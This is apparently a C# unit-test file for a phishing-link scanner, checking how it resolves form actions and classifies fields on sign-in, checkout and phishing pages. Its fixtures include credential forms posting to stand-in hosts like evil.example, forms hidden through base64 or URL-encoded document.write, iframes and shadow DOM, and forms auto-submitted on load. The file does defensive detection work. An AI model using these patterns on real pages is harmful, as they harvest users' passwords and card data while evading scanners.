using Nylas.LinkSafety.Scanning.Pages;

namespace Nylas.LinkSafety.Scanning.Tests.Pages;

public sealed class PageFormTests
{
    [Theory]
    [InlineData("action='https://evil.example/go.php'", "https://evil.example/go.php", "evil.example")]
    [InlineData("action='go.php?a=1'", "https://shop.example/account/go.php?a=1", "shop.example")]
    [InlineData("action=''", "https://shop.example/account/index.html", "shop.example")]
    [InlineData("", "https://shop.example/account/index.html", "shop.example")]
    [InlineData("action='mailto:thief@evil.example'", null, null)]
    [InlineData("action='javascript:send()'", null, null)]
    [InlineData("action='data:text/html,x'", null, null)]
    public void Action_IsResolvedAsABrowserSendsIt(string attribute, string? action, string? host)
    {
        var form = Assert.Single(Reading.Facts($"<form {attribute}><input type=password></form>").Forms);

        Assert.Equal((action, host), (form.Action, form.ActionHost));
    }

    [Fact]
    public void Action_UsesTheBaseAndTheButtonsFormaction()
    {
        var facts = Reading.Facts("""
            <base href="https://evil.example/kit/"><form action=a.php method=POST><input name=q><button formaction="//thief.example/b.php">Sign in</button></form>
            <form><input name=r></form>
            """);

        Assert.Equal(("https://thief.example/b.php", "//thief.example/b.php", "post", "Sign in"), (facts.Forms[0].Action, facts.Forms[0].ActionRaw, facts.Forms[0].Method, facts.Forms[0].SubmitText));
        Assert.Equal(Reading.PageUrl, facts.Forms[1].Action);
    }

    [Fact]
    public void Fields_OutsideTheirFormBelongToIt()
    {
        var facts = Reading.Facts("<form id=a action=/x></form><input type=password name=p form=a><form id=b action=/y><input name=q form=a><input name=r form=none></form>");

        Assert.Equal(["p", "q"], facts.Forms[0].Fields.Select(field => field.Name));
        Assert.Empty(facts.Forms[1].Fields);
    }

    /// <summary>Old kits open the form between table and row, where the parser closes it at once.</summary>
    [Fact]
    public void Fields_OfAFormStraightInATable_BelongToIt()
    {
        var form = Assert.Single(Reading.Facts("<table><form action=//evil.example/><tr><td><input name=user><tr><td><input type=password></form></table>").Forms);

        Assert.Equal("evil.example", form.ActionHost);
        Assert.Equal([FieldKind.Username, FieldKind.Password], form.Fields.Select(field => field.Kind));
    }

    [Fact]
    public void Fields_ThatAskForSecretsInNoForm_AreAFormOfTheirOwn()
    {
        var form = Assert.Single(Reading.Facts("<input name=mail placeholder='E-Mail'><input type=password><button>Weiter</button><input type=search>").Forms);

        Assert.True(form.IsFormless);
        Assert.Null(form.Action);
        Assert.Contains(form.Fields, field => field.Kind == FieldKind.Password);
    }

    [Fact]
    public void Fields_ThatAskForNothingPersonal_AreNoFormOfTheirOwn() => Assert.Empty(Reading.Facts("<input type=search name=q><input type=checkbox>").Forms);

    /// <summary>Names and labels as sign-in, checkout and phishing pages write them.</summary>
    [Theory]
    [InlineData("<input type=password>", FieldKind.Password)]
    [InlineData("<input type=email>", FieldKind.Email)]
    [InlineData("<input type=tel>", FieldKind.Phone)]
    [InlineData("<input type=hidden name=password>", FieldKind.Hidden)]
    [InlineData("<input type=file>", FieldKind.File)]
    [InlineData("<input type=radio>", FieldKind.Checkbox)]
    [InlineData("<input type=search name=email>", FieldKind.Text)]
    [InlineData("<input name=shipping>", FieldKind.Text)]
    [InlineData("<input name=opinion>", FieldKind.Text)]
    [InlineData("<input name=city>", FieldKind.Text)]
    [InlineData("<input name=txtPassword>", FieldKind.Password)]
    [InlineData("<input name=x style='-webkit-text-security:disc'>", FieldKind.Password)]
    [InlineData("<input name=loginfmt placeholder='Email, phone, or Skype'>", FieldKind.Email)]
    [InlineData("<input name=userName>", FieldKind.Username)]
    [InlineData("<input autocomplete='section-a billing cc-number'>", FieldKind.CardNumber)]
    [InlineData("<input type=tel name=cardnumber>", FieldKind.CardNumber)]
    [InlineData("<input name=ccNum>", FieldKind.CardNumber)]
    [InlineData("<input type=tel name=cvv>", FieldKind.CardCode)]
    [InlineData("<input type=password name=securityCode>", FieldKind.CardCode)]
    [InlineData("<input autocomplete=one-time-code inputmode=numeric>", FieldKind.Otp)]
    [InlineData("<input name=otp>", FieldKind.Otp)]
    [InlineData("<input placeholder='Verification code'>", FieldKind.Otp)]
    [InlineData("<input type=password name=atm_pin>", FieldKind.Pin)]
    [InlineData("<textarea placeholder='Enter your 12-word recovery phrase'></textarea>", FieldKind.SeedPhrase)]
    [InlineData("<input aria-label='Private key'>", FieldKind.SeedPhrase)]
    [InlineData("<label for=a>Mot de passe</label><input id=a>", FieldKind.Password)]
    [InlineData("<label>Contraseña <input></label>", FieldKind.Password)]
    [InlineData("<label>Número de tarjeta <input></label>", FieldKind.CardNumber)]
    [InlineData("<label>Prüfziffer <input></label>", FieldKind.CardCode)]
    [InlineData("<label>Benutzername <input></label>", FieldKind.Username)]
    [InlineData("<label>Пароль <input></label>", FieldKind.Password)]
    [InlineData("<label>メールアドレス <input></label>", FieldKind.Email)]
    [InlineData("<label>パスワード <input></label>", FieldKind.Password)]
    [InlineData("<label>カード番号 <input></label>", FieldKind.CardNumber)]
    [InlineData("<label>验证码 <input></label>", FieldKind.Otp)]
    [InlineData("<label>비밀번호 <input></label>", FieldKind.Password)]
    [InlineData("<label>סיסמה <input></label>", FieldKind.Password)]
    [InlineData("<label>Numéro de téléphone <input></label>", FieldKind.Phone)]
    public void Field_KindIsReadFromTypeNameAndLabel(string html, FieldKind kind)
        => Assert.Equal(kind, Assert.Single(Assert.Single(Reading.Facts($"<form>{html}</form>").Forms).Fields).Kind);

    [Fact]
    public void Field_LabelIsWhatStandsBesideIt()
    {
        var form = Assert.Single(Reading.Facts("<form><label for=u>Your <b>user</b> name</label><input id=u name=user placeholder=no><input type=submit value=' Log  in '></form>").Forms);

        Assert.Equal([new PageField(FieldKind.Username, "user", "Your user name"), new PageField(FieldKind.Submit, null, "Log in")], form.Fields.AsEnumerable());
        Assert.Equal("Log in", form.SubmitText);
    }

    [Theory]
    [InlineData("<form id=f></form><form></form><script>document.getElementById('f').submit()</script>")]
    [InlineData("<form name=f></form><form></form><script>document.f.submit()</script>")]
    [InlineData("<form></form><form></form><script>document.forms[0].submit()</script>")]
    [InlineData("<form id=f></form><form></form><script>$('#f').submit()</script>")]
    [InlineData("<form id=f></form><script>window.onload = function () { document.querySelector('form').submit() }</script>")]
    [InlineData("<body onload='document.forms[0].submit()'><form></form>")]
    [InlineData("<body onload='send()'><form name=g></form><script>function send() { document.g.requestSubmit(); }</script>")]
    public void Form_SentByScriptAtLoad_IsAutoSubmitted(string html) => Assert.True(Reading.Facts(html).Forms[0].IsAutoSubmitted);

    [Theory]
    [InlineData("<form id=f></form><script>button.onclick = function () { document.getElementById('f').submit() }</script>")]
    [InlineData("<form id=f></form><select onchange='this.form.submit()'></select>")]
    [InlineData("<form id=f></form><script>if (ready) document.forms[0].submit()</script>")]
    [InlineData("<form id=f></form><form></form><script>document.getElementById('g').submit()</script>")]
    public void Form_SentByTheVisitor_IsNotAutoSubmitted(string html)
    {
        var facts = Reading.Facts(html);

        Assert.DoesNotContain(facts.Forms, form => form.IsAutoSubmitted);
        Assert.True(facts.Scripts.SubmitsForm);
    }

    [Fact]
    public void Form_InsideHiddenMarkup_IsHidden() => Assert.True(Assert.Single(Reading.Facts("<div style='display:none'><form><input type=password></form></div>").Forms).IsHidden);

    [Theory]
    [InlineData("<script>document.write(unescape('%3Cform%20action%3D%22//evil.example/%22%3E%3Cinput%20type%3Dpassword%3E%3C/form%3E'))</script>")]
    [InlineData("<script>document.write('<form action=//evil.ex' + 'ample/>'); document.write('<input type=password></form>')</script>")]
    [InlineData("<script>document.write(atob('PGZvcm0gYWN0aW9uPS8vZXZpbC5leGFtcGxlLz48aW5wdXQgdHlwZT1wYXNzd29yZD48L2Zvcm0+'))</script>")]
    [InlineData("<iframe srcdoc='<form action=//evil.example/><input type=password></form>'></iframe>")]
    [InlineData("<iframe src='data:text/html,<form action=//evil.example/><input type=password></form>'></iframe>")]
    [InlineData("<iframe src='data:text/html;base64,PGZvcm0gYWN0aW9uPS8vZXZpbC5leGFtcGxlLz48aW5wdXQgdHlwZT1wYXNzd29yZD48L2Zvcm0+'></iframe>")]
    [InlineData("<div><template shadowrootmode=open><form action=//evil.example/><input type=password></form></template></div>")]
    public void Form_ThatIsWrittenOrEmbedded_IsFound(string html)
    {
        var form = Assert.Single(Reading.Facts(html).Forms);

        Assert.Equal("evil.example", form.ActionHost);
        Assert.Equal(FieldKind.Password, Assert.Single(form.Fields).Kind);
    }
}
